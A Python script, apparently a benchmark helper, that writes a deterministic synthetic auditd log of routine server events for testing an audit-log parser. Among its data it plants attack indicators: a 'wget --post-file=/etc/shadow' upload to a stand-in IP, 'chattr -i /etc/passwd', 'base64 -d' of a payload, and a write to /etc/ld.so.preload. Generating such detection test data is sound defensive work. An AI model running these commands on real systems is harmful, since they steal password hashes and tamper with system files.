"""Write a deterministic audit.log of N records (default 1,000,000) for bench_audit.py.

    python benchmarks/make_audit_corpus.py OUT [--records N]

One host over a day, with the audit rules of a hardened server (execve auditing, file watches
on /etc, connect() auditing, PAM and systemd records): per event, in the order the kernel
writes them (SYSCALL, EXECVE, CWD, PATH…, PROCTITLE), RAW log format. Mix of events: 30 %
execve of everyday commands (ls, cat, ps, git, python3, sed …, a few with arguments auditd
hex-encodes), 25 % file opens under watch, 15 % connect() calls, 30 % user-space records
(USER_ACCT, CRED_ACQ, USER_START, USER_END, CRED_DISP, USER_CMD, SERVICE_START/STOP, LOGIN).
Planted among them, every 5,000th event: ``chattr -i``, a write to /etc/ld.so.preload,
``wget --post-file=``, ``base64 -d``. The same arguments always give the same bytes; the
counts go to stdout as JSON.
"""

from __future__ import annotations

import argparse
import json
import random
from pathlib import Path

START = 1_764_460_800  # 2025-11-30T00:00:00Z
COMMANDS = [
    ("/usr/bin/ls", ["ls", "-la", "/var/log"]),
    ("/usr/bin/cat", ["cat", "/var/log/nginx/access.log"]),
    ("/usr/bin/ps", ["ps", "aux"]),
    ("/usr/bin/git", ["git", "status"]),
    ("/usr/bin/python3.11", ["python3", "/opt/app/manage.py", "runjob", "--queue=default"]),
    ("/usr/bin/sed", ["sed", "-n", "1,20p", "/etc/nginx/nginx.conf"]),
    ("/usr/bin/tail", ["tail", "-n", "100", "/var/log/app.log"]),
    ("/usr/bin/date", ["date", "+%s"]),
    ("/usr/bin/df", ["df", "-h"]),
    ("/usr/bin/sleep", ["sleep", "5"]),
    ("/usr/bin/logger", ["logger", "-t", "backup", "backup finished"]),  # hex-encoded a3
    ("/usr/bin/rsync", ["rsync", "-a", "/srv/data/", "/mnt/backup/data/"]),
    ("/usr/sbin/nginx", ["nginx", "-s", "reload"]),
    ("/usr/bin/awk", ["awk", "{print $1}", "/var/log/nginx/access.log"]),  # hex-encoded a1
    ("/usr/bin/cp", ["cp", "/srv/app/config.yml", "/srv/app/config.yml.bak"]),
]
WATCHED = ["/etc/nginx/nginx.conf", "/etc/hosts", "/etc/resolv.conf", "/etc/ssl/openssl.cnf",
           "/etc/app/settings.ini", "/var/lib/app/state.db"]  # fmt: skip
PLANTED = [
    ("/usr/bin/chattr", ["chattr", "-i", "/etc/passwd"]),
    ("/usr/bin/wget", ["wget", "--post-file=/etc/shadow", "http://203.0.113.5/upload"]),
    ("/usr/bin/base64", ["base64", "-d", "/tmp/payload.b64"]),
]


def _value(text: str) -> str:
    """A value as auditd writes an untrusted string: quoted, or hex when it needs to be."""
    if any(c in text for c in ' "\'') or any(ord(c) < 0x21 or ord(c) > 0x7E for c in text):
        return text.encode().hex().upper()
    return f'"{text}"'


class Writer:
    def __init__(self, out, seed: int) -> None:
        self.out = out
        self.random = random.Random(seed)
        self.records = 0
        self.serial = 1000
        self.clock = float(START)
        self.counts: dict[str, int] = {}

    def head(self, kind: str) -> str:
        return f"type={kind} msg=audit({self.clock:.3f}:{self.serial}): "

    def write(self, kind: str, body: str) -> None:
        self.out.write(self.head(kind) + body + "\n")
        self.records += 1

    def syscall(self, number: int, pid: int, comm: str, exe: str, items: int, key: str) -> None:
        uid = self.random.choice((0, 0, 1000, 1001))
        self.write(
            "SYSCALL",
            f"arch=c000003e syscall={number} success=yes exit=0 a0=7ffd2c1e a1=55e4a1 a2=0 "
            f"a3=8 items={items} ppid={pid - 1} pid={pid} auid=1000 uid={uid} gid={uid} "
            f"euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 "
            f'ses=4 comm="{comm}" exe="{exe}" subj=unconfined key={key}',
        )

    def path(self, item: int, name: str, nametype: str = "NORMAL") -> None:
        self.write(
            "PATH",
            f"item={item} name={_value(name)} inode={self.random.randint(1000, 999999)} "
            "dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 "
            f"nametype={nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
        )

    def proctitle(self, args: list[str]) -> None:
        self.write("PROCTITLE", "proctitle=" + "\x00".join(args).encode().hex().upper())

    def execve(self, exe: str, args: list[str]) -> None:
        pid = self.random.randint(2000, 60000)
        self.syscall(59, pid, exe.rsplit("/", 1)[-1][:15], exe, 2, '"exec"')
        values = " ".join(f"a{i}={_value(a)}" for i, a in enumerate(args))
        self.write("EXECVE", f"argc={len(args)} {values}")
        self.write("CWD", 'cwd="/root"')
        self.path(0, exe)
        self.path(1, "/lib64/ld-linux-x86-64.so.2")
        self.proctitle(args)

    def open_file(self, name: str, nametype: str = "NORMAL") -> None:
        pid = self.random.randint(2000, 60000)
        self.syscall(257, pid, "nginx", "/usr/sbin/nginx", 1, '"etc_watch"')
        self.write("CWD", 'cwd="/"')
        self.path(0, name, nametype)
        self.proctitle(["nginx: worker process"])

    def connect(self) -> None:
        pid = self.random.randint(2000, 60000)
        self.syscall(42, pid, "python3", "/usr/bin/python3.11", 0, '"network_connect_4"')
        port = self.random.choice((443, 5432, 6379, 53))
        self.write("SOCKADDR", f"saddr=02000{port:04X}C0A8010A0000000000000000")
        self.proctitle(["python3", "/opt/app/worker.py"])

    def user(self) -> None:
        kind = self.random.choice(
            ("USER_ACCT", "CRED_ACQ", "USER_START", "USER_END", "CRED_DISP", "USER_CMD",
             "SERVICE_START", "SERVICE_STOP", "LOGIN")
        )  # fmt: skip
        if kind.startswith("SERVICE_"):
            unit = self.random.choice(("nginx", "app-worker", "logrotate", "apt-daily"))
            self.write(
                kind,
                "pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined "
                f"msg='unit={unit} comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" "
                "hostname=? addr=? terminal=? res=success'",
            )
        elif kind == "USER_CMD":
            command = "systemctl restart app-worker".encode().hex().upper()
            self.write(
                kind,
                f"pid={self.random.randint(2000, 60000)} uid=1000 auid=1000 ses=4 "
                f"subj=unconfined msg='cwd=\"/home/deploy\" cmd={command} "
                "exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",
            )
        elif kind == "LOGIN":
            self.write(kind, "pid=4242 uid=0 subj=unconfined old-auid=4294967295 auid=1000 "
                             "tty=(none) old-ses=4294967295 ses=5 res=1")  # fmt: skip
        else:
            self.write(
                kind,
                f"pid={self.random.randint(2000, 60000)} uid=0 auid=1000 ses=4 "
                "subj=unconfined msg='op=PAM:session_open grantors=pam_unix acct=\"deploy\" "
                "exe=\"/usr/sbin/sshd\" hostname=192.168.1.20 addr=192.168.1.20 "
                "terminal=ssh res=success'",
            )

    def event(self, number: int) -> None:
        self.serial += 1
        self.clock += self.random.uniform(0.001, 0.08)
        if number % 5000 == 2500:
            which = (number // 5000) % 4
            name = ("chattr", "ld_so_preload", "wget", "base64")[which]
            self.counts[name] = self.counts.get(name, 0) + 1
            if which == 1:
                self.open_file("/etc/ld.so.preload", "CREATE")
            else:
                self.execve(*PLANTED[(0, 0, 1, 2)[which]])
            return
        draw = self.random.random()
        if draw < 0.30:
            self.execve(*self.random.choice(COMMANDS))
        elif draw < 0.55:
            self.open_file(self.random.choice(WATCHED))
        elif draw < 0.70:
            self.connect()
        else:
            self.user()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("--records", type=int, default=1_000_000)
    parser.add_argument("--seed", type=int, default=20261130)
    args = parser.parse_args()
    with args.out.open("w", encoding="utf-8", newline="\n") as out:
        writer = Writer(out, args.seed)
        number = 0
        while writer.records < args.records:
            writer.event(number)
            number += 1
    with args.out.open("rb") as handle:
        total = sum(1 for _ in handle)
    print(json.dumps({"records": total, "events": number, "bytes": args.out.stat().st_size,
                      "planted": writer.counts}))  # fmt: skip
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
